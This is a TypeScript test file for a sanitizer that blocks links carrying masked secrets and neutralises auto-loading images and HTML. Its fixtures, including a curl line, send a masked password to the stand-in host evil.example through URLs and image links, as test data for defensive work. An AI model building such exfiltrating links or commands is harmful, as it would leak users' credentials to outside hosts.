import { describe, expect, it } from 'vitest';
import { blockLinks, withoutLoading } from './links.ts';

const MARK = '[masked:password#3f2a1c]';
const isRefused = (address: string) => address.includes('masked:');
const block = (text: string) => blockLinks(text, isRefused).text;

describe('an address that is refused', () => {
  it.each([
    ['bare', `See https://evil.example/?d=${MARK}.`, 'See [link blocked: evil.example].'],
    ['of an image', `![x](https://evil.example/${MARK}) end`, '![x]([link blocked: evil.example]) end'],
    ['of a link with brackets', `[a](https://evil.example/(b)?${MARK})`, '[a]([link blocked: evil.example])'],
    [
      'between angle brackets, with blanks',
      `[a](<https://evil.example/a b ${MARK}>)`,
      '[a]([link blocked: evil.example])',
    ],
    ['without a scheme', `//evil.example/${MARK}`, '[link blocked: evil.example]'],
    ['relative', `![x](pic/${MARK})`, '![x]([link blocked])'],
    [
      'defined elsewhere',
      `![x][1]\n\n[1]: //evil.example/${MARK}`,
      '![x][1]\n\n[1]: [link blocked: evil.example]',
    ],
    [
      'in an attribute',
      `<a href="https://evil.example/a b${MARK}">`,
      '<a href="[link blocked: evil.example]">',
    ],
    ['with the mark in its host', `https://${MARK}.evil.example/`, '[link blocked]'],
    ['in code', `\`curl https://evil.example/${MARK}\``, '`curl [link blocked: evil.example]`'],
    ['with a user', `https://me:${MARK}@db.example/x`, '[link blocked]'],
  ])('is replaced: %s', (_, text, expected) => {
    expect(block(text)).toBe(expected);
  });

  it('is counted, and others stay', () => {
    const text = `https://grafana.example/d/1?x=[1] and https://evil.example/${MARK}, ${MARK} in words`;
    expect(blockLinks(text, isRefused)).toEqual({
      text: `https://grafana.example/d/1?x=[1] and [link blocked: evil.example], ${MARK} in words`,
      count: 1,
    });
  });

  it('costs hostile text no more than its length', () => {
    for (const piece of ['https://', '](<', '"a://', ')))', '[masked:', '<a://b', '<a src'])
      expect(blockLinks(piece.repeat(20_000), () => false).count).toBe(0);
  });
});

describe('content that loads automatically', () => {
  it.each([
    ['![pods](https://evil.example/p.png)', '[image: pods](https://evil.example/p.png)'],
    ['![a[b]](https://evil.example)', '[image: a[b]](https://evil.example)'],
    ['![x][1]\n[1]: https://evil.example', '[image: x][1]\n[1]: https://evil.example'],
    ['<img src=x><IMG/src=y></img>', '‹img src=x>‹IMG/src=y>‹/img>'],
    ['<div style="background:url(//evil.example)">', '‹div style="background:url(//evil.example)">'],
    ['<p onclick = "x">', '‹p onclick = "x">'],
  ])('is inert in %j', (text, expected) => {
    expect(withoutLoading(text)).toBe(expected);
  });

  it.each([
    'a < b && c <d> <pod-name> Map<String, Int>',
    '#![feature(x)]',
    'Really! [docs](https://x.example)',
    '<b>bold</b>',
  ])('is nothing in %j', (text) => {
    expect(withoutLoading(text)).toBe(text);
  });
});
